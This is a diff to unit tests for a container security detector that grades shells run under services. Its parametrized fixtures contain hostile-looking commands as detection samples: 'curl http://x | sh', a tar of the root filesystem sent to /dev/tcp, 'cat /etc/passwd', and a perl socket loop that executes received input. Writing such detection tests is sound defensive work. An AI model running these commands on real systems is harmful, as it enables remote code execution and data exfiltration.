@@ -16,6 +16,7 @@ from ansible_collections.cordon.docker.tests.unit.plugins.plugin_utils._analysis
     LATER,
     STARTED,
     connection,
+    file,
     findings_of,
     grades,
     listener,
@@ -226,9 +227,57 @@ def test_a_pair_of_unix_sockets_is_no_network_socket(tmp_path: Path) -> None:
     assert findings_of(tmp_path, {"processes.jsonl": rows, "sockets.jsonl": []}) == []
 
 
-def test_a_shell_script_of_a_service_script_is_medium(tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["perl", "-e", "print 1"],
+        ["perl", "-MIO::Socket", "-we", "print 1"],
+        ["python3", "-u", "-c", "print(1)"],
+        ["ruby", "-rsocket", "-e", "p 1"],
+        ["bash", "-lc", "id"],
+        ["bash"],
+    ],
+)
+def test_what_is_on_the_command_line_is_no_script_of_the_image(tmp_path: Path, words: list[str]) -> None:
+    rows = [JAVA, process(101, 100, f"/usr/bin/{words[0]}", *words, cwd="/")]
+    assert grades(findings_of(tmp_path, {"processes.jsonl": rows}))["shell-under-service"] == "high"
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("gzip -c /data/x > /tmp/x.gz; sleep 20", "low"),
+        ("TZ=UTC /usr/bin/convert a.png b.jpg && echo done", "low"),
+        ("df -P / | awk 'NR > 1 { print $5 }' > /tmp/disk", "low"),
+        ("gzip x; curl http://x | sh", "high"),
+        ("echo $(id)", "high"),
+        ("echo aGk= | base64 -d", "high"),
+        ("tar -c / > /dev/tcp/10.0.0.1/9", "high"),
+        ("/tmp/x", "high"),
+        ("cat /etc/passwd", "high"),
+    ],
+)
+def test_what_services_have_shells_do(tmp_path: Path, command: str, severity: str) -> None:
+    rows = [JAVA, process(101, 100, "/usr/bin/dash", "sh", "-c", command)]
+    assert grades(findings_of(tmp_path, {"processes.jsonl": rows})) == {"shell-under-service": severity}
+
+
+def test_hooks_of_git_are_low(tmp_path: Path) -> None:
+    rows = [
+        process(100, 1, "/usr/bin/python3.11", "python3", "/srv/hook.py"),
+        process(101, 100, "/usr/bin/git", "git", "receive-pack"),
+        process(102, 101, "/usr/bin/dash", "/bin/sh", "hooks/post-receive"),
+    ]
+    items = {"processes.jsonl": rows, "sockets.jsonl": [listener(100, 8080)]}
+    assert grades(findings_of(tmp_path, items)) == {"shell-under-service": "low"}
+
+
+def test_a_script_that_a_service_runs_is_medium_and_one_of_the_image_low(tmp_path: Path) -> None:
     rows = [JAVA, process(101, 100, "/usr/bin/python3.11", "python3", "/opt/report.py")]
-    assert grades(findings_of(tmp_path, {"processes.jsonl": rows})) == {"shell-under-service": "medium"}
+    items = {"processes.jsonl": rows, "layer.jsonl": [file("/opt/report.py")]}
+    assert grades(findings_of(tmp_path / "late", items)) == {"shell-under-service": "medium"}
+    items["layer.jsonl"] = [file("/opt/report.pyc")]
+    assert grades(findings_of(tmp_path / "image", items)) == {"shell-under-service": "low"}
 
 
 @pytest.mark.parametrize(
@@ -245,6 +294,31 @@ def test_a_shell_script_of_a_service_script_is_medium(tmp_path: Path) -> None:
             None,
         ),
         ([JAVA], [connection(1, "10.1.1.1", 443, 100)], None),
+        (
+            [process(101, 1, "/usr/bin/perl", "perl", "-MIO::Socket", "-e", "while(<$c>){print $c qx($_)}")],
+            [connection(1, "10.1.1.1", 443, 101)],
+            "high",
+        ),
+        (
+            [process(101, 1, "/usr/bin/node", "node", "-e", "require('net').connect(1,'x')")],
+            [connection(1, "10.1.1.1", 443, 101)],
+            "high",
+        ),
+        (
+            [process(101, 1, "/usr/bin/python3.11", "python3", "/tmp/.x.py")],
+            [connection(1, "10.1.1.1", 443, 101)],
+            "high",
+        ),
+        (
+            [process(101, 1, "/usr/bin/python3.11", "python3", "-c", "import socket; wait()")],
+            [connection(1, "10.1.1.1", 5432, 101)],
+            "low",
+        ),
+        (
+            [process(101, 1, "/usr/bin/python3.11", "python3", "-c", "import requests; requests.get('x')")],
+            [connection(1, "10.1.1.1", 443, 101)],
+            None,
+        ),
     ],
 )
 def test_connections_of_shells(
